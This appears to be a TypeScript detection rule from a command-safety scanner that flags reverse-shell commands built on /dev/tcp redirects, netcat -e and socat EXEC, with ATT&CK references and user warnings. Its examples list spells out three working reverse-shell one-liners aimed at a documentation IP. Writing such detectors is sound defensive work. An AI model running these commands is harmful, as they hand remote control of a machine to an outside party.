import type { Call } from '../../languages/command.ts';
import { attack, cwe, vendor } from '../references.ts';
import type { Access, Examples, Rule } from '../rule.ts';
import { lineOf } from '../table.ts';

const socketPath = /\/dev\/(?:tcp|udp)\/([^\s/]{1,80})\/\S+/;

function detect(call: Call): Access | undefined {
  const line = lineOf(call);
  const place = call.redirects.map(one => socketPath.exec(one.target.text)?.[1]).find(Boolean);
  if (place && /^(?:ba|z|k|da)?sh$|^exec$/.test(call.program)) return access(place);
  if (/^(?:nc|ncat|netcat)\b/.test(line) && !/ (?:-\w*l|--listen)/.test(line)) {
    // `sh -i` whose output goes to the other machine, mostly with a pipe back.
    const piped =
      call.stdin && !call.stdin.known && /(?:^|\/)(?:ba|da|z|k)?sh(?: -i)?(?: |$)/.test(call.stdin.text.slice(0, 100));
    if (piped)
      return access(call.words.find(word => /^[\w-]+[.:][\w.:-]+$/.test(word.text))?.text ?? 'another machine');
    const runs = /^(?:nc|ncat|netcat)\b(?=.* (?:-\w*[ec]|--exec|--sh-exec)[ =]\S*(?:sh|cmd))/.test(line);
    return runs
      ? access(call.words.find(word => /^[\w-]+[.:][\w.:-]+$/.test(word.text))?.text ?? 'another machine')
      : undefined;
  }
  if (/^socat\b/.test(line) && /(?:exec|system)\S*sh\b/i.test(line) && !/listen/i.test(line)) {
    return access(/(?:tcp\d?|openssl|udp)(?:-connect)?:([^\s:,]+)/i.exec(line)?.[1] ?? 'another machine');
  }
  return undefined;
}

function access(name: string): Access {
  return {
    effect: 'ESCALATE',
    principal: { kind: 'unknown', name: `whoever is at ${name}` },
    target: { kind: 'host', name: 'this machine', breadth: 'single' },
    right: 'admin',
    summary: 'Hands a shell to another machine',
    headline: `Whoever is at ${name} could run everything on this machine that you may run.`,
    explanation: 'The connection goes out from inside, so no firewall stops it.',
    undoNote: 'End the program at once, and treat the machine as taken over.',
  };
}

export default {
  title: 'Hands a shell of this machine to another one',
  references: [
    attack('T1059.004'),
    attack('T1095'),
    cwe(506),
    vendor('Bash redirections', 'https://www.gnu.org/software/bash/manual/bash.html'),
  ],
  triggers: '/dev/tcp|/dev/udp|nc -|ncat|netcat|socat'.split('|'),
  call: { on: ['sh', 'bash', 'zsh', 'ksh', 'dash', 'exec', 'nc', 'ncat', 'netcat', 'socat'], detect },
} satisfies Rule;

export const examples = {
  detects: [
    { text: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', severity: 'high', effect: 'ESCALATE' },
    { text: 'nc -e /bin/sh 203.0.113.5 4444', severity: 'high' },
    'socat TCP:203.0.113.5:4444 EXEC:/bin/sh',
  ],
  ignores: ['nc -zv web1 443', 'echo hello > /dev/tcp/127.0.0.1/80', 'socat - TCP:web1:80', 'bash -i'],
} satisfies Examples;
